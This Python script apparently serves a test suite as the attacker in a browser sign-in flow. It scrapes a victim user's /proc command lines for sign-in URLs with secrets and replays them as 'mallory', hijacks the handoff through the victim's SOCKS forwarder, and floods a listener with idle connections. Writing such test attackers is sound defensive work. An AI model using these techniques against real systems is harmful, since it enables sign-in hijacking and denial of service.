#!/usr/bin/python3
"""Another local user attacking a browser sign-in (LocalUsersSignInTests), run as that user.

  scan EXCHANGE VICTIM_UID
      Reads /proc/*/cmdline of the victim's processes over and over (as anyone can
      without hidepid) for URLs, and replays each one it finds: a URL that carries a
      sign-in's secrets (state, code_challenge, device_token, request_uri) is opened
      as the attacker's own browser would (signed in at the reference server as
      mallory, following the server's redirect to the victim's listener); any other
      loopback URL is asked for once, without following. Once
      $EXCHANGE/browser-started.json exists and a whole scan ran after it, writes
      $EXCHANGE/attacker-scanned; goes on until $EXCHANGE/stop exists (at most 120 s).
      What it found and what the replays got: $EXCHANGE/attacker.json.
  replay URL
      Opens URL as mallory's browser, following redirects; prints what came back (JSON).
  through-forwarder EXCHANGE VICTIM_UID
      Finds the victim's handoff page in /proc (a browser's command line), asks for it
      through the victim's SOCKS forwarder (its port in $EXCHANGE/forwarder-port: what
      `ssh -D` offers every local user), writes $EXCHANGE/attacker-scanned, waits for the
      victim's browser ($EXCHANGE/browser.json), then, when it got the URL, opens it as
      mallory and sends mallory's callback through the forwarder. $EXCHANGE/attacker.json.
  flood HOST PORT EXCHANGE
      Holds as many idle connections to HOST:PORT as it can (reopening those that are
      closed, from 4 threads) until $EXCHANGE/stop exists (at most 120 s); writes
      $EXCHANGE/flood.json with how many it opened, and flood-progress.json every 50.
"""
import json
import os
import re
import resource
import socket
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

SECRET = re.compile(r"[?&](state|code_challenge|device_token|request_uri)=")
URL = re.compile(rb"https?://[^\s\x00\"'<>]+")


def write(path, document):
    temporary = path + ".tmp"
    with open(temporary, "w") as file:
        json.dump(document, file)
    os.replace(temporary, path)


def open_as_mallory(url, follow=True):
    chain = []

    class Recorder(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, request, fp, code, message, headers, new_url):
            chain.append({"url": request.full_url, "status": code})
            if not follow:
                return None
            return super().redirect_request(request, fp, code, message, headers, new_url)

    opener = urllib.request.build_opener(Recorder())
    request = urllib.request.Request(url, headers={"Cookie": "reference-user=mallory@example.com"})
    try:
        with opener.open(request, timeout=10) as answer:
            return {"status": answer.status, "url": answer.geturl(), "body": answer.read().decode("utf-8", "replace")[:2000], "chain": chain}
    except urllib.error.HTTPError as error:
        return {"status": error.code, "url": error.geturl(), "body": error.read().decode("utf-8", "replace")[:2000], "chain": chain}
    except Exception as error:
        return {"status": 0, "error": repr(error), "chain": chain}


def victims_urls(victim_uid):
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open("/proc/%s/status" % name) as file:
                uid = next(int(line.split()[1]) for line in file if line.startswith("Uid:"))
            if uid != victim_uid:
                continue
            with open("/proc/%s/cmdline" % name, "rb") as file:
                cmdline = file.read()
        except (OSError, StopIteration, ValueError):
            continue
        for match in URL.findall(cmdline):
            found.append(match.decode("utf-8", "replace"))
    return found


def scan(exchange, victim_uid):
    report = {"found": [], "replays": [], "scans": 0}
    seen = set()
    marked = False
    deadline = time.monotonic() + 120
    while not os.path.exists(os.path.join(exchange, "stop")) and time.monotonic() < deadline:
        started_before = os.path.exists(os.path.join(exchange, "browser-started.json"))
        for url in victims_urls(victim_uid):
            if url in seen:
                continue
            seen.add(url)
            secret = bool(SECRET.search(url))
            report["found"].append({"url": url, "secret": secret})
            if secret:
                report["replays"].append(dict(open_as_mallory(url), replayed=url))
            elif url.startswith("http://127.0.0.1:") or url.startswith("http://[::1]:") or url.startswith("http://localhost:"):
                report["replays"].append(dict(open_as_mallory(url, follow=False), replayed=url))
            write(os.path.join(exchange, "attacker.json"), report)
        report["scans"] += 1
        if started_before and not marked:
            write(os.path.join(exchange, "attacker.json"), report)
            with open(os.path.join(exchange, "attacker-scanned"), "w") as file:
                file.write("scanned\n")
            marked = True
    write(os.path.join(exchange, "attacker.json"), report)


def socks_get(forwarder, port, target):
    """GET `target` on 127.0.0.1:port through a SOCKS5 forwarder; (status, headers text, body)."""
    connection = socket.create_connection(("127.0.0.1", forwarder), timeout=10)
    connection.sendall(b"\x05\x01\x00")
    connection.recv(2)
    connection.sendall(b"\x05\x01\x00\x01" + socket.inet_aton("127.0.0.1") + port.to_bytes(2, "big"))
    connection.recv(10)
    connection.sendall(("GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: close\r\n\r\n" % (target, port)).encode())
    answer = b""
    while True:
        try:
            data = connection.recv(65536)
        except OSError:
            break
        if not data:
            break
        answer += data
    connection.close()
    head, _, body = answer.decode("utf-8", "replace").partition("\r\n\r\n")
    status = int(head.split(" ")[1]) if head.startswith("HTTP/") else 0
    return status, head, body


def through_forwarder(exchange, victim_uid):
    report = {}
    deadline = time.monotonic() + 60
    handoff = None
    while handoff is None and time.monotonic() < deadline:
        handoff = next((url for url in victims_urls(victim_uid) if "/devtrust-sign-in/" in url), None)
        time.sleep(0.01)
    report["handoff"] = handoff
    with open(os.path.join(exchange, "forwarder-port")) as file:
        forwarder = int(file.read())
    target = urllib.parse.urlsplit(handoff)
    status, head, _ = socks_get(forwarder, target.port, target.path)
    location = next((line.split(": ", 1)[1] for line in head.split("\r\n") if line.lower().startswith("location: ")), None)
    report["handoffStatus"], report["location"] = status, location
    write(os.path.join(exchange, "attacker.json"), report)
    with open(os.path.join(exchange, "attacker-scanned"), "w") as file:
        file.write("scanned\n")
    while not os.path.exists(os.path.join(exchange, "browser.json")) and time.monotonic() < deadline:
        time.sleep(0.02)
    if location:
        report["mallorysCallback"] = None
        # The server's 302 names the victim's listener with mallory's code: sent through the forwarder.
        request = urllib.request.Request(location, headers={"Cookie": "reference-user=mallory@example.com"})

        class NoFollow(urllib.request.HTTPRedirectHandler):
            def redirect_request(self, *arguments):
                return None
        try:
            urllib.request.build_opener(NoFollow()).open(request, timeout=10)
        except urllib.error.HTTPError as error:
            back = urllib.parse.urlsplit(error.headers.get("Location", ""))
            try:
                status, _, body = socks_get(forwarder, back.port, back.path + "?" + back.query)
                report["mallorysCallback"] = {"status": status, "body": body[:2000]}
            except OSError as failure:
                report["mallorysCallback"] = {"status": 0, "error": repr(failure)}
    write(os.path.join(exchange, "attacker.json"), report)


def flood(host, port, exchange):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    limit = min(hard, 20000) - 100
    held, lock, counts = [], threading.Lock(), {"opened": 0, "refused": 0}
    stop = os.path.join(exchange, "stop")
    deadline = time.monotonic() + 120

    def run():
        while not os.path.exists(stop) and time.monotonic() < deadline:
            with lock:
                if len(held) >= limit // 4 * 4:
                    # Drop the oldest: held ones the listener closed are dead anyway.
                    old = held.pop(0)
                    old.close()
            try:
                connection = socket.create_connection((host, port), timeout=2)
            except OSError:
                with lock:
                    counts["refused"] += 1
                continue
            with lock:
                held.append(connection)
                counts["opened"] += 1
                if counts["opened"] == 200:
                    write(os.path.join(exchange, "flood-started.json"), dict(counts))
                if counts["opened"] % 50 == 0:
                    write(os.path.join(exchange, "flood-progress.json"), dict(counts))

    threads = [threading.Thread(target=run) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    write(os.path.join(exchange, "flood.json"), dict(counts))


if __name__ == "__main__":
    if sys.argv[1] == "scan":
        scan(sys.argv[2], int(sys.argv[3]))
    elif sys.argv[1] == "replay":
        print(json.dumps(open_as_mallory(sys.argv[2])))
    elif sys.argv[1] == "through-forwarder":
        through_forwarder(sys.argv[2], int(sys.argv[3]))
    elif sys.argv[1] == "flood":
        flood(sys.argv[2], int(sys.argv[3]), sys.argv[4])
